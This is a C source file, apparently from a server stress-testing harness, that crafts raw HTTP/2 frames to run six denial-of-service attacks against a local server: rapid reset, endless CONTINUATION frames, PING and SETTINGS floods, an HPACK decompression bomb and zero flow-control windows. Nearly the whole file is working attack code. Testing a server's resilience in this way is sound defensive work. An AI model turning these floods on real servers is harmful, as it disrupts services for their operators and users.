#include "http2.h"

#include <string.h>

#include "peer.h"

enum { HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, PING = 6, CONTINUATION = 9 };
enum { END_STREAM = 1, END_HEADERS = 4, SETTING_WINDOW = 4 };
enum { FRAMES = 100, BLOCK = 16000, BOMB_VALUE = 4000, BOMB_REPEATS = 10000, WINDOWED = 20 };

static void frame(attack_peer *peer, unsigned type, unsigned flags, uint32_t stream,
                  const void *payload, size_t len)
{
    unsigned char head[9] = { (unsigned char)(len >> 16), (unsigned char)(len >> 8),
                              (unsigned char)len, (unsigned char)type, (unsigned char)flags,
                              (unsigned char)(stream >> 24), (unsigned char)(stream >> 16),
                              (unsigned char)(stream >> 8), (unsigned char)stream };

    attack_peer_send(peer, head, sizeof head);
    attack_peer_send(peer, payload, len);
}

static void preface(attack_peer *peer)
{
    attack_peer_send_text(peer, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    frame(peer, SETTINGS, 0, 0, "", 0);
}

/* Writes the header block of a GET: references to HPACK's static table, path and host as
 * literals. */
static size_t write_get(unsigned char *block, const char *path)
{
    static const unsigned char host[] = "\x82\x86\x01\x09" "127.0.0.1\x04";
    size_t path_len = strlen(path), len = sizeof host - 1;

    memcpy(block, host, len);
    block[len++] = (unsigned char)path_len;
    memcpy(block + len, path, path_len);
    return len + path_len;
}

static uint32_t get(attack_peer *peer, const char *path)
{
    unsigned char block[64];
    uint32_t stream = peer->next_stream;

    frame(peer, HEADERS, END_STREAM | END_HEADERS, stream, block, write_get(block, path));
    peer->next_stream += 2;
    return stream;
}

/* --- floods ----------------------------------------------------------------------------------- */

static void rapid_reset(attack_peer *peer)
{
    static const unsigned char cancel[4] = { 0, 0, 0, 8 };

    for (int i = 0; i < FRAMES; i++)
        frame(peer, RST_STREAM, 0, get(peer, i % 2 ? "/events" : "/hello"), cancel, sizeof cancel);
}

/* A header block that never ends; frames add the same short field again and again. */
static void continuation(attack_peer *peer)
{
    static const char field[] = "\x00\x01" "a\x01" "b";
    unsigned char block[64];

    if (peer->step == 0) {
        frame(peer, HEADERS, END_STREAM, peer->next_stream, block, write_get(block, "/hello"));
        return;
    }
    for (int i = 0; i < FRAMES; i++)
        frame(peer, CONTINUATION, 0, peer->next_stream, field, i % 2 ? sizeof field - 1 : 0);
}

static void ping(attack_peer *peer)
{
    for (int i = 0; i < FRAMES; i++)
        frame(peer, PING, 0, 0, "12345678", 8);
}

static void settings(attack_peer *peer)
{
    static const unsigned char window[6] = { 0, SETTING_WINDOW, 0, 1, 0, 0 };

    for (int i = 0; i < FRAMES; i++)
        frame(peer, SETTINGS, 0, 0, window, i % 2 ? sizeof window : 0);
}

/* --- bombs and windows ------------------------------------------------------------------------ */

/* A field of 4 KB that enters HPACK's dynamic table, and 10,000 references to it. */
static void hpack_bomb(attack_peer *peer)
{
    unsigned char block[BLOCK];
    size_t len = write_get(block, "/hello");

    memcpy(block + len, "\x40\x01x\x7f\xa1\x1e", 6); /* its length: 127 + 0x21 + (0x1e << 7) */
    len += 6;
    memset(block + len, 'y', BOMB_VALUE);
    len += BOMB_VALUE;
    memset(block + len, 0x80 | 62, BOMB_REPEATS);
    len += BOMB_REPEATS;
    frame(peer, HEADERS, END_STREAM | END_HEADERS, peer->next_stream, block, len);
    peer->next_stream += 2;
}

/* Windows of 0, so that streams, large responses and files cannot be sent. */
static void zero_windows(attack_peer *peer)
{
    static const unsigned char none[6] = { 0, SETTING_WINDOW, 0, 0, 0, 0 };

    attack_peer_send_text(peer, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    frame(peer, SETTINGS, 0, 0, none, sizeof none);
    for (int i = 0; i < WINDOWED; i++) {
        get(peer, "/events");
        get(peer, "/report");
        get(peer, "/file");
    }
}

static void one_ping(attack_peer *peer)
{
    frame(peer, PING, 0, 0, "12345678", 8);
}

const attack_kind attack_http2[] = {
    { "rapid-reset", "100 requests and their resets in a write", 20, 100, 0, true, false, preface,
      rapid_reset },
    { "continuation", "a header block in endless frames", 20, 100, 0, true, false, preface,
      continuation },
    { "ping-flood", "100 pings in a write", 20, 400, 0, true, false, preface, ping },
    { "settings-flood", "100 SETTINGS in a write", 20, 400, 0, true, false, preface, settings },
    { "hpack-bombs", "a field of 4 KB, 10,000 times by reference", 20, 100, 0, true, false,
      preface, hpack_bomb },
    { "zero-windows", "60 responses that may not be sent, each peer", 20, 20, 0, true, false,
      zero_windows, one_ping },
    { 0 },
};
